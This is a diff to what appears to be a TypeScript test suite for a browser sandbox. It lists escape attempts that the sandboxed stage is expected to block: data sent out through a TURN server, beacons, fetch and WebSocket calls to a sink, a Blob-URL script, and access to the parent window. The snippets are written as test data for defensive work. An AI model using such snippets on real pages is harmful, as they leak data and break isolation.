@@ -35,7 +35,8 @@ const ESCAPES: Record<string, string> = {
   "WebRTC to a TURN server": `const pc = new (globalThis as any).RTCPeerConnection({ iceServers: [{ urls: "${TURN}", username: "stolen-data", credential: "x" }] }); pc.createDataChannel("x"); await pc.setLocalDescription(await pc.createOffer());`,
   "a nested frame": `const f = document.createElement("iframe"); f.src = "${SINK}/frame"; document.body.append(f); await sleep(300); print("frame reached", String(f.contentWindow?.length));`,
   "a Blob-URL script": `const s = document.createElement("script"); s.src = URL.createObjectURL(new Blob(["location.href = '${SINK}/blob-script'; for (;;) {}"])); document.head.append(s);`,
-  "requests of every kind": `new Image().src = "${SINK}/img"; navigator.sendBeacon("${SINK}/beacon", "x"); try { new WebSocket("ws://127.0.0.1:${HTTP_PORT}/ws"); } catch (e) { print("ws", (e as Error).name); } await fetch("${SINK}/fetch").catch((e) => print("fetch", (e as Error).name));`,
+  // (An <img> to another host is refused by the stage's CSP and reaches no sink, but Playwright still reports it as a request.)
+  "requests of every kind": `navigator.sendBeacon("${SINK}/beacon", "x"); try { new WebSocket("ws://127.0.0.1:${HTTP_PORT}/ws"); } catch (e) { print("ws", (e as Error).name); } await fetch("${SINK}/fetch").catch((e) => print("fetch", (e as Error).name));`,
   "the app's window": `print("parent", (() => { try { return String((parent as any).__lanes); } catch (e) { return (e as Error).name; } })()); print("top", (() => { try { return String(top!.document.title); } catch (e) { return (e as Error).name; } })()); parent.postMessage({ type: "lanes:run" }, "*");`,
   "localStorage": `localStorage.setItem("lanes-progress", "{}");`,
   "window.__lanes": `(window as any).__lanes = { run: () => Promise.resolve([]) }; print("own __lanes only");`,
